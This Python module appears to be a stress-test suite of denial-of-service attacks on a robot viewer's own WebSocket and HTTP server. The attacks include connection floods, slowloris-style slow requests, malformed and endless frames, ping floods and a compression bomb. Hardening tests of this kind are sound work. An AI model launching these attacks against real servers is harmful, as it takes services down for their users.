"""Attacks on the view's server by a page of another computer's, to which the address with the token was given."""

from __future__ import annotations

import random
import socket
import struct
import time
import zlib
from collections.abc import Callable
from contextlib import suppress

from .target import BINARY, CLOSE, PING, PONG, POSE, TEXT, Target, flooded, frame


def pages_without_end(target: Target) -> None:
    target.crowd(200, target.upgrade)
    target.rest()


def pages_again(target: Target) -> None:
    target.each(80, target.upgrade, lambda k: frame(PONG, b""), 0.05)


def mute_pages(target: Target) -> None:
    target.crowd(60, lambda: target.upgrade(receive=4096))
    target.each(0, target.upgrade, lambda k: frame(TEXT, POSE), 0.1)


def pages_that_come_and_go(target: Target) -> None:
    target.again(lambda: target.upgrade().close())


def requests(target: Target) -> None:
    """Some ten thousand a second, of one page."""
    target.each(1, target.upgrade, lambda k: frame(TEXT, POSE) * 100, 0.01)


def requests_of_thirty(target: Target) -> None:
    target.each(30, target.upgrade, lambda k: frame(TEXT, POSE) * 20, 0.0)


def nonsense_of_thirty(target: Target) -> None:
    target.each(30, target.upgrade, lambda k: frame(TEXT, b'{"type":' + b"[" * 500) * 20, 0.0)


def large_nonsense(target: Target) -> None:
    text = b'{"type":"theta","theta":[' + b"0," * 32_000 + b"0]}"
    target.each(10, target.upgrade, lambda k: frame(TEXT, text), 0.0)


def jogs(target: Target) -> None:
    text = b'{"type":"jog","frame":"base","twist":[0,0,0,0,0,0.1],"number":7}'
    target.each(10, target.upgrade, lambda k: frame(TEXT, text) * 20, 0.0)


def fragments_without_end(target: Target) -> None:
    more = frame(0, b"a", final=False) * 100
    target.each(10, target.upgrade, lambda k: more if k else frame(TEXT, b"a", final=False), 0.0)


def empty_fragments(target: Target) -> None:
    more = frame(0, b"", final=False) * 1000
    target.each(10, target.upgrade, lambda k: more if k else frame(TEXT, b"", final=False), 0.0)


def frame_of_a_gigabyte(target: Target) -> None:
    def once() -> None:
        one = target.upgrade()
        flooded(one, frame(BINARY, b"a" * 1_000_000, length=10**9), target)
        one.close()

    target.again(once)


def half_a_frame(target: Target) -> None:
    target.crowd(50, target.upgrade)
    for one in target.held:
        with suppress(OSError):
            one.sendall(frame(TEXT, b"a", length=60_000))
    target.rest()


def slow_frame(target: Target) -> None:
    target.each(50, target.upgrade, lambda k: frame(TEXT, b"", length=60_000) if k == 0 else b"a", 0.3)


def pings(target: Target) -> None:
    target.each(10, target.upgrade, lambda k: frame(PING, b"a" * 125) * 300, 0.0)


def pings_never_read(target: Target) -> None:
    target.each(10, lambda: target.upgrade(receive=4096), lambda k: frame(PING, b"a" * 125) * 300, 0.0)


def pongs_never_read(target: Target) -> None:
    """Answers that nobody asked for keep a page alive that takes nothing."""
    target.each(60, lambda: target.upgrade(receive=4096), lambda k: frame(PONG, b""), 0.2)


def bomb(target: Target) -> None:
    packed = zlib.compressobj(9, zlib.DEFLATED, -15)
    data = packed.compress(bytes(20_000_000)) + packed.flush(zlib.Z_SYNC_FLUSH)
    offer = {"Sec_WebSocket_Extensions": "permessage-deflate"}
    target.each(5, lambda: target.upgrade(**offer), lambda k: frame(TEXT, data[:-4], reserved=0x40), 0.1)


def closing_frames(target: Target) -> None:
    def once() -> None:
        one = target.upgrade()
        one.sendall(frame(CLOSE, struct.pack("!H", 1000) + b"a" * 100) * 10)
        one.close()

    target.again(once)


def odd_frames(target: Target) -> None:
    odd = [
        frame(3, b"a"),
        frame(TEXT, b"\xff\xfe"),
        frame(PING, b"a", final=False),
        frame(0, b"a"),
        frame(CLOSE, b"a"),
        frame(CLOSE, b"\x03\xe8\xff\xfe"),
        frame(TEXT, b"a", reserved=0x70),
        b"\x81\x01a",
        frame(PING, b"a" * 200),
    ]

    def once() -> None:
        one = target.upgrade()
        one.sendall(random.choice(odd))
        one.close()

    target.again(once)


def downloads_never_read(target: Target) -> None:
    target.crowd(100, lambda: target.open(receive=4096))
    for one in target.held:
        with suppress(OSError):
            one.sendall(target.head("arm.html"))
    target.rest()


def downloads(target: Target) -> None:
    target.each(20, target.open, lambda k: target.head("arm.html"), 0.0)


def slow_readers(target: Target) -> None:
    target.crowd(100, lambda: target.open(receive=4096))
    for one in target.held:
        with suppress(OSError):
            one.sendall(target.head("meshcat.js"))
    while target.on():
        for one in target.held:
            with suppress(OSError):
                one.recv(1)
        time.sleep(0.1)


def pipelined_files(target: Target) -> None:
    target.again(lambda: flooded(target.open(), target.head("nothing.js") * 10_000, target))


def pipelined_never_read(target: Target) -> None:
    target.each(50, lambda: target.open(receive=4096), lambda k: target.head("meshcat.js") * 100, 0.05)


def kept_alive(target: Target) -> None:
    def begin() -> socket.socket:
        one = target.open()
        one.sendall(target.head("nothing.js"))
        one.recv(4096)
        return one

    target.crowd(600, begin)
    target.rest()


def slow_body_with_the_token(target: Target) -> None:
    head = target.head("", Content_Length="60000")
    target.each(200, target.open, lambda k: head if k == 0 else b"a", 0.3)


MEMBERS: dict[str, Callable[[Target], None]] = {
    attack.__name__: attack
    for attack in (
        pages_without_end, pages_again, mute_pages, pages_that_come_and_go, requests, requests_of_thirty,
        nonsense_of_thirty, large_nonsense, jogs, fragments_without_end, empty_fragments, frame_of_a_gigabyte,
        half_a_frame, slow_frame, pings, pings_never_read, pongs_never_read, bomb, closing_frames, odd_frames,
        downloads_never_read, downloads, slow_readers, pipelined_files, pipelined_never_read, kept_alive,
        slow_body_with_the_token,
    )
}  # fmt: skip
